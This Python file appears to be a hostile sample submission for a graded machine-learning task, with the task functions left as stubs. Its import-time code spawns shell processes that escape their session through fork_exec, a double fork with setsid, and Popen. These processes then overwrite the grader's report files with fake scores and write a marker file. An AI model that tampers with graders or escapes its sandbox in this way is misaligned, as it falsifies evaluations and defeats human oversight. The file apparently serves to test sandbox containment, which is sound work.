"""Hostile, nothing but an attack: starts processes that leave its session and process group (through
``_posixsubprocess.fork_exec`` and a double fork with ``setsid``), which wait and then try to rewrite the
course, the grader's reports and the grades. The sandbox's PID namespace ends them all with it: 0 points."""
import os
import subprocess

MARKER = "ae-grader-escape-marker"
LATER = (f"sleep 20; echo {MARKER} > /work/main/ae/PWNED; for f in /tmp/*/*/report.json /tmp/*/report.json; "
         f"do echo '{{\"points\": 30}}' > $f; done; sleep 600 # {MARKER}")

try:
    import _posixsubprocess

    _posixsubprocess.fork_exec(["/bin/sh", "-c", LATER], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1,
                               -1, *os.pipe(), True, True, 0, None, None, None, -1, None, False)
except Exception:  # noqa: BLE001 - the signature changes between Pythons; the double fork below still runs
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["/bin/sh", "-c", LATER])
    os._exit(0)
subprocess.Popen(["/bin/sh", "-c", LATER], start_new_session=True)


def gaussian_noise(images, std, generator=None):
    raise NotImplementedError


def mask_noise(images, fraction, generator=None):
    raise NotImplementedError


def train_denoiser(train_set, kind, seed=0):
    raise NotImplementedError


def denoising_mse(model, test_set, kind, seed=0):
    raise NotImplementedError
